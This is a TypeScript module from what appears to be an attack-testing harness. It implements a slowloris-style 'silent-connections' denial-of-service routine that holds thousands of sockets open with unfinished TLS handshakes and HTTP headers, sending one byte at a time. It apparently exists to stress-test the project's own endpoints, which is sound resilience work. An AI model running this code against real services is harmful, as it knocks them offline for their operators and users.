import { connect } from 'node:net'
import type { Socket } from 'node:net'
import { once } from 'node:events'
import type { Attack } from '../attack.ts'
import { breathe, inLoops } from '../attack.ts'

/** To each of both programs. */
const CONNECTIONS = 1_500
/** The first bytes of a handshake of TLS, of which the length says that more will come (RFC 8446, section 5.1). */
const HELLO = Buffer.from([0x16, 0x03, 0x01, 0x40, 0x00, 0x01])
const REQUEST = 'POST / HTTP/1.1\r\nhost: localhost\r\nx-slow: '
const PAUSE_MS = 500
const CONNECT_MS = 2_000

/** Connections that never end a handshake or the header of a request, and send a byte now and then. */
export const silentConnections: Attack = {
  name: 'silent-connections',
  secrets: [],
  async run({ functionURL, webhookURL }, signal) {
    let opened = 0
    await inLoops(2 * CONNECTIONS, signal, async (loop) => {
      const isWebhook = loop % 2 === 0
      const socket = await open(isWebhook ? webhookURL : functionURL, signal)
      opened += 1
      socket.write(isWebhook ? HELLO : REQUEST)
      while (!socket.destroyed && !signal.aborted) {
        await breathe(signal, PAUSE_MS)
        socket.write(isWebhook ? Buffer.alloc(1) : 'a')
      }
    })
    return `${opened} connections, ${2 * CONNECTIONS} at a time`
  },
}

async function open(address: string, signal: AbortSignal): Promise<Socket> {
  const { hostname: host, port } = new URL(address)
  const socket = connect({ host, port: Number(port) })
  socket.on('error', () => socket.destroy()).resume()
  signal.addEventListener('abort', () => socket.destroy(), { once: true })
  await once(socket, 'connect', { signal: AbortSignal.any([signal, AbortSignal.timeout(CONNECT_MS)]) })
  return socket
}
